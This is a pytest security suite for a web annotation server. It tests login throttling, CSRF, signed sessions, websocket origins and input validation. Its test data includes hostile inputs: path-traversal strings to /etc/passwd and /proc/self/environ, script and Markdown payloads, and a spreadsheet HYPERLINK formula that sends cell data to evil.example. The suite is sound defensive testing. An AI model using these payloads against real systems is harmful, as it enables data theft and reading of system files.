"""Security of `xid serve`: production mode refuses unsafe settings, session ids are signed, websocket
origins are checked. (Logins, roles and the admin page are in test_browser.py.)"""

import asyncio
import html
import re
import urllib.error
import urllib.request
from pathlib import Path

import numpy as np
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from tornado.httpclient import HTTPRequest

from tests.browser import served
from tests.page_client import Browser, token_payload
from xid_app.cli import main
from xid_app.config import Settings
from xid_app.demo import DEMO_DIR
from xid_app.throttle import LOGIN_LIMITS

GOOD_SECRET = "k3J9-qW2xZ7pL0vB5nM8sD4fG6hJ1aQ0eR3tY"


@pytest.mark.parametrize("secret, login, expected", [
    (None, True, ["XID_COOKIE_SECRET is not set"]),
    ("short", True, ["shorter than 32 characters"]),
    ("change-me-to-a-long-random-string", True, ["left at an example value"]),
    ("a" * 40, True, ["left at an example value"]),
    (GOOD_SECRET, False, ["no user has a password"]),
    (GOOD_SECRET, True, []),
])
def test_security_problems(secret, login, expected):
    problems = Settings(cookie_secret=secret).security_problems(login_required=login)
    assert len(problems) == len(expected) and all(e in p for e, p in zip(expected, problems))


def test_production_mode_refuses_to_serve_unsafely(project, monkeypatch):
    monkeypatch.setenv("XID_PRODUCTION", "true")
    monkeypatch.delenv("XID_COOKIE_SECRET", raising=False)
    result = CliRunner().invoke(main, ["serve", "--db", project.url])
    assert result.exit_code == 1
    assert "production mode refuses to serve" in result.output and "XID_COOKIE_SECRET is not set" in result.output
    assert "no user has a password" in result.output


@pytest.fixture(scope="module")
def open_server(tmp_path_factory):
    from xid_app.demo import DEMO_SOURCES
    from xid_app.project import Project

    data_dir = tmp_path_factory.mktemp("security")
    url_db = f"sqlite:///{data_dir / 'x.sqlite'}"
    project = Project(url_db, settings=Settings(data_dir=data_dir))
    project.init()
    project.ingest(DEMO_SOURCES)
    with served([], data_dir, env={"XID_DATABASE_URL": url_db}) as url:
        yield url


def test_session_ids_are_signed(open_server):
    page = urllib.request.urlopen(open_server + "/", timeout=30).read().decode()
    assert re.search(r'"token":\s*"[A-Za-z0-9_.-]+"', page)
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(open_server + "/?bokeh-session-id=made-up-by-the-client", timeout=30)
    assert refused.value.code == 403


def test_websockets_from_other_origins_are_refused(open_server):
    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.ioloop import IOLoop
    from tornado.websocket import websocket_connect

    page = urllib.request.urlopen(open_server + "/", timeout=30).read().decode()
    token = re.search(r'"token":\s*"([A-Za-z0-9_.-]+)"', page).group(1)
    ws_url = open_server.replace("http", "ws") + "/ws"

    async def connect(origin):
        request = HTTPRequest(ws_url, headers={"Origin": origin})
        try:
            socket = await websocket_connect(request, subprotocols=["bokeh", token])
        except HTTPClientError as exc:
            return exc.code
        socket.close()
        return 101

    assert IOLoop.current().run_sync(lambda: connect("http://evil.example.org")) == 403
    assert IOLoop.current().run_sync(lambda: connect(open_server)) == 101


# --- the second pass (issue 11): an attack from the team's own network ------------------------------------

PASSWORD = "a-long-password-1"


def _run(coroutine):
    return asyncio.run(coroutine)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def team_server(request, tmp_path_factory):
    """`xid serve` as docs/deployment.md sets it up for a team: logins, a long cookie secret, behind a proxy
    (so tests can speak for several clients with X-Forwarded-For); on SQLite and PostgreSQL. Users: two
    annotators and an admin with passwords, the 210 RGZ volunteers without."""
    from xid_app.demo import prepare_demo
    from xid_app.project import Project

    data_dir = tmp_path_factory.mktemp("team")
    if request.param == "sqlite":
        url_db = f"sqlite:///{data_dir / 'team.sqlite'}"
    else:
        url_db = request.getfixturevalue("postgres_module_url")
    project = prepare_demo(Settings(data_dir=data_dir), url=url_db)
    # one account per test that spends an account's attempts, so that the throttle of one is not another's
    for name, role in (("ann", "annotator"), ("bob", "annotator"), ("carol", "annotator"), ("dave", "annotator"),
                       ("erin", "annotator"), ("boss", "admin")):
        project.set_user(name, password=PASSWORD, role=role)
    env = {"XID_DATABASE_URL": url_db, "XID_COOKIE_SECRET": GOOD_SECRET, "XID_BEHIND_PROXY": "true"}
    with served([], data_dir, env=env) as url:
        yield url, Project(url_db, settings=Settings(data_dir=data_dir))


def _answers(project, user: str) -> list[tuple[str, str]]:
    from xid_app.store.models import Classification, Source, User

    with project.engine.connect() as conn:
        return conn.execute(sa.select(Classification.submission_id, Source.source_id).join(User).join(Source)
                            .where(User.name == user).order_by(Classification.id)).all()


def _user_names(project) -> set[str]:
    from xid_app.store.models import User

    with project.engine.connect() as conn:
        return set(conn.scalars(sa.select(User.name)))


async def _logged_in_page(url: str, name: str, *, client: str, path: str = "/"):
    browser = Browser(url, forwarded_for=client)
    assert await browser.log_in(name, PASSWORD) == 302
    page = await browser.page(path)
    await page.connect()
    return browser, page


# 1. the user comes from the login alone

def test_in_login_mode_the_page_has_no_name_box_and_cannot_be_told_who_it_is(team_server):
    url, project = team_server
    before = _user_names(project)

    async def attack():
        _, page = await _logged_in_page(url, "ann", client="10.0.1.1")
        await page.wait(lambda: "ann" in page.text("xid-who"))
        placeholders = {a.get("placeholder") for _, a in page.models.values()}
        labels = {a.get("label") for _, a in page.models.values()}
        assert "who is annotating?" not in placeholders and "Start" not in labels
        # what the open-mode page would have sent: a name and a Start click, to every model that takes them
        for model_id, (_, attributes) in page.models.items():
            if "value" in attributes and isinstance(attributes["value"], str):
                await page.set(model_id, "value", "rgz-volunteer-impostor")
            if "label" in attributes:
                await page.event("button_click", model_id)
        await page.wait(lambda: False, timeout=3)
        who = page.text("xid-who")
        page.close()
        return who

    assert _run(attack()).startswith("ann")
    assert _user_names(project) == before  # nobody made up, nobody taken over


# 2. the login form: off the event loop, throttled before checking, the same time for unknown names

def test_login_guesses_are_counted_before_they_are_checked_and_then_refused(team_server):
    url, _ = team_server

    async def flood():
        browser = Browser(url, forwarded_for="10.0.2.1")
        burst = await asyncio.gather(*(browser.log_in("carol", f"wrong-{i}") for i in range(16)))
        after = [await browser.log_in("carol", f"wrong-again-{i}") for i in range(12)]
        return burst + after, await browser.log_in("carol", PASSWORD)

    statuses, right = _run(flood())
    # however they arrive, no more guesses are checked than the account's limit (a burst beyond the queue
    # of checks is told "busy", unchecked); then every attempt is refused unchecked, the right one too
    assert statuses.count(401) == LOGIN_LIMITS["account"].attempts
    assert statuses[-1] == 429 and right == 429


def test_a_guesser_cannot_lock_a_colleague_out_of_their_own_browser(team_server):
    url, _ = team_server

    async def attack():
        colleague = Browser(url, forwarded_for="10.0.3.1")  # has logged in to "dave" before: a device cookie
        assert await colleague.log_in("dave", PASSWORD) == 302
        await colleague.fetch("/logout", method="POST", form={"logout_token": "x"})  # refused, fine
        colleague.cookies.pop("xid_login", None)
        guessers = [Browser(url, forwarded_for=f"10.0.3.{i}") for i in range(2, 6)]  # several addresses
        refused = 0
        for guesser in guessers:
            for i in range(4):
                refused += await guesser.log_in("dave", f"guess-{i}") == 429
        stranger = await Browser(url, forwarded_for="10.0.3.99").log_in("dave", PASSWORD)
        return refused, await colleague.log_in("dave", PASSWORD), stranger

    refused, colleague, stranger = _run(attack())
    assert refused > 0  # the account is throttled for browsers that never logged in to it...
    assert stranger == 429
    assert colleague == 302  # ...but not for the colleague's own browser


def test_an_unknown_user_costs_the_same_password_check_as_a_known_one(monkeypatch):
    from xid_app import auth

    calls = []

    class Counting:
        def __init__(self, hasher):
            self.hasher = hasher

        def verify(self, stored, password):
            calls.append(stored)
            return self.hasher.verify(stored, password)

        def hash(self, password):
            return self.hasher.hash(password)

    monkeypatch.setattr(auth, "_hasher", Counting(auth._hasher))
    assert not auth.check_password(None, "anything")          # unknown user, or one without a password
    assert not auth.check_password(auth.hash_password("right-password"), "wrong-password")
    assert len(calls) == 2  # argon2 ran both times: the time does not tell which names exist


# 3. every value the page sends is checked; no SQL is ever shown

@pytest.mark.parametrize("answer_id", ["x" * 5_000_000, "abc\x00def0123456", "../../etc", "<script>x</script>"])
def test_a_hostile_answer_id_is_refused_and_nothing_is_stored(team_server, answer_id):
    url, project = team_server
    name = "erin"

    async def attack():
        _, page = await _logged_in_page(url, name, client=f"10.0.4.{len(answer_id) % 200}")
        keys, data = page.keys()
        await page.set(keys, "answer_for", data["shown"])
        await page.set(keys, "answer_id", answer_id)
        await page.press("No host")
        await page.wait(lambda: "answer id" in page.text("xid-message"), timeout=20)
        message = page.text("xid-message")
        page.close()
        return message

    before = _answers(project, name)
    message = _run(attack())
    assert "malformed answer id" in message and "SQL" not in message
    assert _answers(project, name) == before


# 5. logging out ends the login on the server, for copied cookies and open pages alike

def test_logging_out_ends_the_login_for_a_copied_cookie_and_an_open_page(team_server):
    url, project = team_server

    async def scenario():
        browser, page = await _logged_in_page(url, "ann", client="10.0.5.1")
        copied = dict(browser.cookies)
        await page.wait(lambda: "ann" in page.text("xid-who"))
        assert await browser.log_out() == 200
        thief = Browser(url, forwarded_for="10.0.5.2")
        thief.cookies = copied
        after_logout, _, headers = await thief.fetch("/")
        # the page still open in a tab: its next answer is refused
        await page.tap(60.0, 60.0)
        await page.press("Next ▶")
        await page.wait(lambda: "logged out" in page.text("xid-message"), timeout=20)
        message = page.text("xid-message")
        page.close()
        return after_logout, headers.get("Location", ""), message

    before = _answers(project, "ann")
    status, location, message = _run(scenario())
    assert status == 302 and "login" in location
    assert "logged out" in message
    assert _answers(project, "ann") == before


# 6. a page's token works only for the login it was made for, and carries no cookie

def test_a_page_token_works_only_for_its_own_login_and_carries_no_cookie(team_server):
    url, _ = team_server

    async def attack():
        admin = Browser(url, forwarded_for="10.0.6.1")
        assert await admin.log_in("boss", PASSWORD) == 302
        admin_page = await admin.page("/admin")
        payload = token_payload(admin_page.token)
        annotator = Browser(url, forwarded_for="10.0.6.2")
        assert await annotator.log_in("bob", PASSWORD) == 302
        try:
            await admin_page.connect(cookies=annotator.cookie_header())  # the admin's token, bob's cookie
            hijacked = True
            admin_page.close()
        except Exception as exc:
            hijacked = getattr(exc, "code", None) != 403
        await admin_page.connect()  # the admin's own browser still opens it
        opened = not admin_page.closed
        admin_page.close()
        return payload, hijacked, opened, admin_page.html

    payload, hijacked, opened, html_text = _run(attack())
    assert not hijacked and opened
    assert not payload.get("cookies") and "Cookie" not in payload.get("headers", {})
    assert "xid_login" not in html_text and "id_token" not in html_text


# 7. login CSRF: the form needs its XSRF token; cookies are SameSite; logout is a POST with a token

def test_login_and_logout_cannot_be_forged_from_another_site(team_server):
    url, _ = team_server

    async def attack():
        victim = Browser(url, forwarded_for="10.0.7.1")
        forged_login = await victim.log_in("bob", PASSWORD, with_xsrf=False)
        assert await victim.log_in("bob", PASSWORD) == 302
        _, _, headers = await Browser(url, forwarded_for="10.0.7.2").fetch(
            "/login", method="POST", form={"username": "x", "password": "y"})
        login_cookie_flags = next(h for h in (await _set_cookies(url, "bob")) if h.startswith("xid_login="))
        get_logout, _, _ = await victim.fetch("/logout")  # a link or <img> to /logout
        still_in, _, _ = await victim.fetch("/")
        forged_logout, _, _ = await victim.fetch("/logout", method="POST", form={"logout_token": "0" * 64})
        still_in_after, _, _ = await victim.fetch("/")
        return forged_login, login_cookie_flags, get_logout, still_in, forged_logout, still_in_after

    forged_login, flags, get_logout, still_in, forged_logout, still_in_after = _run(attack())
    assert forged_login == 403
    assert "samesite=lax" in flags.lower() and "httponly" in flags.lower()
    assert get_logout == 200 and still_in == 200  # GET only offers the button
    assert forged_logout == 403 and still_in_after == 200


async def _set_cookies(url: str, name: str) -> list[str]:
    browser = Browser(url, forwarded_for="10.0.7.3")
    _, form, _ = await browser.fetch("/login")
    xsrf = re.search(r'name="_xsrf" value="([^"]+)"', form).group(1)
    from urllib.parse import urlencode

    response = await browser.http.fetch(HTTPRequest(
        url + "/login", method="POST", follow_redirects=False, headers={
            "Cookie": browser.cookie_header(), "X-Forwarded-For": "10.0.7.3"},
        body=urlencode({"username": name, "password": PASSWORD, "_xsrf": xsrf})), raise_error=False)
    return response.headers.get_list("Set-Cookie")


# 9. Panel's /components/ route imports nothing for anyone

@pytest.mark.parametrize("path", ["/components/os/path/__css__/x", "/components/antigravity/x/_css/y",
                                  "/components/panel.layout/Modal/__css__/x"])
def test_the_components_route_is_closed(team_server, open_server, path):
    for base in (team_server[0], open_server):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(base + path, timeout=30)
        assert refused.value.code in (403, 404) and refused.value.code != 500


# 3 (in-process). a failure deep in the store is logged, never shown with its SQL

def test_a_database_error_is_shown_without_its_sql(demo_project, caplog):
    from sqlalchemy.exc import DataError

    from tests.conftest import logged_in
    from xid_app.ui.annotate import AnnotationPage
    from xid_app.ui.session import AnnotationSession

    page = AnnotationPage(logged_in(AnnotationSession(demo_project), "unlucky", advance=False), ask_name=False)

    def broken(**_):
        raise DataError("INSERT INTO classifications (submission_id) VALUES (%(x)s)", {"x": "y"}, Exception("boom"))

    page.session.submit = broken
    page.press("no_host")
    shown = page.messages.html
    assert "Something went wrong (reference" in shown and "earlier answers are safe" in shown
    assert "INSERT" not in shown and "SQL" not in shown and "DataError" not in shown
    reference = re.search(r"reference ([0-9a-f]{8})", shown).group(1)
    assert reference in caplog.text and "INSERT INTO classifications" in caplog.text  # the admin's log has it


# 8. messages are text: a source ID written as Markdown or HTML shows as written, fetches nothing

def test_messages_show_user_text_as_text_not_markdown(tmp_path, settings):
    from xid_app.project import Project
    from xid_app.ui.annotate import AnnotationPage
    from xid_app.ui.session import AnnotationSession

    hostile = "![x](http://evil.example/p.png)[log in here](http://evil.example)<img src=x>"
    _demo_row_elsewhere(tmp_path / "s.csv", source_id=hostile)
    project = Project(f"sqlite:///{tmp_path / 'md.sqlite'}", settings=settings)
    project.init()
    project.ingest(tmp_path / "s.csv", image_roots=[DEMO_DIR])
    page = AnnotationPage(AnnotationSession(project), ask_name=True)
    page.act(lambda: page.session.sign_in("reader"))
    page.press("skip")
    shown = page.messages.html
    assert "<img" not in shown and "<a " not in shown
    assert "![x](http://evil.example/p.png)" in html.unescape(shown)


# 4. a gzipped FITS is measured by its header before a pixel is decompressed

def _gzipped_header_claiming(tmp_path, side: int):
    """A .fits.gz whose header claims side² float32 pixels but holds only a little data: reading it whole
    would take gigabytes (or fail as truncated); its header alone says it is too large."""
    import gzip

    from astropy.io import fits

    header = fits.Header.fromtextfile(str(DEMO_DIR / "rendered" / "ARG000180p_first_rgz_radio.wcs.hdr")) \
        if (DEMO_DIR / "rendered" / "ARG000180p_first_rgz_radio.wcs.hdr").exists() else None
    hdu = fits.PrimaryHDU(np.zeros((8, 8), np.float32))
    if header is not None:
        hdu.header.update({k: header[k] for k in ("CTYPE1", "CTYPE2", "CRVAL1", "CRVAL2", "CDELT1", "CDELT2")
                           if k in header})
    hdu.header["NAXIS1"] = hdu.header["NAXIS2"] = side
    raw = hdu.header.tostring().encode() + bytes(2880 * 4)
    path = tmp_path / "bomb.fits.gz"
    path.write_bytes(gzip.compress(raw))
    return path


def test_a_gzipped_fits_bomb_is_refused_from_its_header(tmp_path, project):
    from xid_app.cutouts import ImageError, read_layer_file

    bomb = _gzipped_header_claiming(tmp_path, 20000)
    # the file holds four blocks of pixels: read past its header, it would fail as unreadable; the size
    # refusal says the header alone was read
    with pytest.raises(ImageError, match=r"20000 × 20000 pixels is larger than 16,777,216"):
        read_layer_file(bomb, band="FIRST", kind="radio")
    (tmp_path / "s.csv").write_text(f"source_id,ra,dec,radio_image\nBOMB,150.0,10.0,{bomb.name}\n")
    result = CliRunner().invoke(main, ["ingest", str(tmp_path / "s.csv"), "--db", project.url])
    assert result.exit_code == 1 and "larger than 16,777,216" in result.output and "Traceback" not in result.output


# 10. over-long IDs are refused with a message on both databases (PostgreSQL would raise, SQLite store them)

def test_over_long_ids_are_refused_with_a_message_on_every_database(project, tmp_path):
    long = "J" + "0" * 300
    cases = {
        "ingest": ("source_id,ra,dec\n" + f"{long},150.0,10.0\n", "source_id of 301 characters"),
        "ingest-catalogue": ("id,ra,dec\n" + f"{long},150.0,10.0\n", "longer than 100 characters"),
        "import-annotations": ("classification_id,source_id,user,host_ra,host_dec,no_host\n"
                               f"{long},S1,u,150.0,10.0,0\nc2,S1,{'u' * 150},150.0,10.0,0\n",
                               "longer than"),
    }
    for command, (text, expected) in cases.items():
        path = tmp_path / f"{command}.csv"
        path.write_text(text)
        result = CliRunner().invoke(main, [command, str(path), "--db", project.url])
        assert expected in result.output, (command, result.output)
        assert "Traceback" not in result.output and "sqlalchemy" not in result.output.lower()
    band = tmp_path / "band.csv"
    band.write_text(f"source_id,ra,dec,radio_image,radio_band\nS1,150.0,10.0,x.fits,{'B' * 150}\n")
    result = CliRunner().invoke(main, ["ingest", str(band), "--db", project.url])
    assert result.exit_code == 1 and "radio_band of 150 characters" in result.output
    user = CliRunner().invoke(main, ["users", "add", "u" * 150, "--password-stdin", "--db", project.url],
                              input="long-enough-password\n")
    assert user.exit_code == 1 and "1 to 100 printable characters" in user.output


# 11. CSV: a NUL and an unclosed quote are refused, naming the line

@pytest.mark.parametrize("text, expected", [
    ("source_id,ra,dec\nA\x00B,150.0,10.0\n", "line 2: a NUL character"),
    ('source_id,ra,dec\nA,150.0,10.0\n"B,150.1,10.0\nC,150.2,10.0\n', "line 3: a quote"),
])
def test_csv_nul_characters_and_open_quotes_are_refused_naming_the_line(project, tmp_path, text, expected):
    for command in ("ingest", "ingest-catalogue", "import-annotations"):
        path = tmp_path / "t.csv"
        path.write_bytes(text.encode())
        result = CliRunner().invoke(main, [command, str(path), "--db", project.url])
        assert result.exit_code == 1 and expected in result.output, (command, result.output)


# 12. a SQLite file deleted under a running XID: answers are refused, not acknowledged and lost

def test_a_deleted_sqlite_database_is_noticed_and_nothing_is_acknowledged(tmp_path, settings):
    from tests.conftest import logged_in
    from xid_app.demo import prepare_demo
    from xid_app.store.db import DatabaseGone
    from xid_app.ui.annotate import AnnotationPage
    from xid_app.ui.session import AnnotationSession

    path = tmp_path / "gone.sqlite"
    project = prepare_demo(settings, url=f"sqlite:///{path}")
    page = AnnotationPage(logged_in(AnnotationSession(project), "ghost", advance=False), ask_name=False)
    for suffix in ("", "-wal", "-shm"):
        Path(f"{path}{suffix}").unlink(missing_ok=True)
    page.press("no_host")
    assert "Not saved: the database file" in html.unescape(page.messages.html)
    assert "Saved" not in page.messages.html.replace("Not saved", "")
    with pytest.raises(DatabaseGone):
        project.assignment.progress(None)


# 13. image paths stay in the table's folder unless the admin allows another

@pytest.mark.parametrize("image", ["/etc/passwd", "../outside.fits", "/proc/self/environ"])
def test_image_paths_outside_the_tables_folder_are_refused(project, tmp_path, image):
    folder = tmp_path / "survey"
    folder.mkdir()
    (folder / "s.csv").write_text(f"source_id,ra,dec,radio_image\nS1,150.0,10.0,{image}\n")
    result = CliRunner().invoke(main, ["ingest", str(folder / "s.csv"), "--db", project.url])
    assert result.exit_code == 1 and "lies outside the table's folder" in result.output


def _demo_row_elsewhere(path: Path, source_id: str | None = None) -> None:
    """The demo's first source in a table of its own at ``path``, its images named by absolute paths."""
    import pandas as pd

    row = pd.read_csv(DEMO_DIR / "sources.csv", dtype=str, keep_default_na=False).head(1)
    for column in ("radio_image", "optical_image"):
        row[column] = [str(DEMO_DIR / v) if v else "" for v in row[column]]
    if source_id is not None:
        row["source_id"] = [source_id]
    row.to_csv(path, index=False)


def test_an_image_root_the_admin_allows_is_accepted(project, tmp_path):
    _demo_row_elsewhere(tmp_path / "s.csv")
    refused = CliRunner().invoke(main, ["ingest", str(tmp_path / "s.csv"), "--db", project.url])
    assert refused.exit_code == 1
    allowed = CliRunner().invoke(main, ["ingest", str(tmp_path / "s.csv"), "--image-root", str(DEMO_DIR),
                                        "--db", project.url])
    assert allowed.exit_code == 0 and "ingested 1 source(s)" in allowed.output


# 14. exported CSV cells never run as spreadsheet formulas; XID reads its own exports back unchanged

def test_exported_csv_cells_cannot_run_as_formulas_and_round_trip(demo_project, tmp_path):
    import pandas as pd

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    src = pd.read_csv(DEMO_DIR / "annotations.csv", dtype=str, keep_default_na=False).head(3)
    src["user"] = [formula, "+1+1", "@SUM(A1)"]
    src["classification_id"] = [f"formula-{i}" for i in range(3)]
    src.to_csv(tmp_path / "a.csv", index=False)
    assert CliRunner().invoke(main, ["import-annotations", str(tmp_path / "a.csv"),
                                     "--db", demo_project.url]).exit_code == 0
    out = tmp_path / "raw.csv"
    assert CliRunner().invoke(main, ["export-classifications", str(out), "--db", demo_project.url]).exit_code == 0
    cells = [c for line in out.read_text().splitlines() for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
    assert any(c.lstrip('"').startswith("'=HYPERLINK") for c in cells)
    # read back by XID: the same users, not doubled (idempotent on classification_id)
    again = CliRunner().invoke(main, ["import-annotations", str(out), "--db", demo_project.url])
    assert again.exit_code == 0
    with demo_project.engine.connect() as conn:
        from xid_app.store.models import User

        names = set(conn.scalars(sa.select(User.name)))
    assert {formula, "+1+1", "@SUM(A1)"} <= names and f"'{formula}" not in names


def test_an_open_admin_page_loses_its_powers_when_the_login_ends(team_server):
    url, project = team_server

    async def scenario():
        browser, page = await _logged_in_page(url, "boss", client="10.0.5.9", path="/admin")
        assert await browser.log_out() == 200
        table = page.by_class("xid-agreement-table")
        await page.press("Compute agreement")
        await page.wait(lambda: "logged out" in page.text("xid-message"), timeout=20)
        message = page.text("xid-message")
        agreement_after = page.models[table][1].get("text", "")
        for label in ("Refresh", "Open"):
            await page.press(label)
        await page.wait(lambda: False, timeout=2)
        page.close()
        return message, agreement_after, page.texts.get(table, "")

    message, before, after = _run(scenario())
    assert "logged out" in message
    assert "krippendorff" not in before and "krippendorff" not in after  # no agreement computed for it
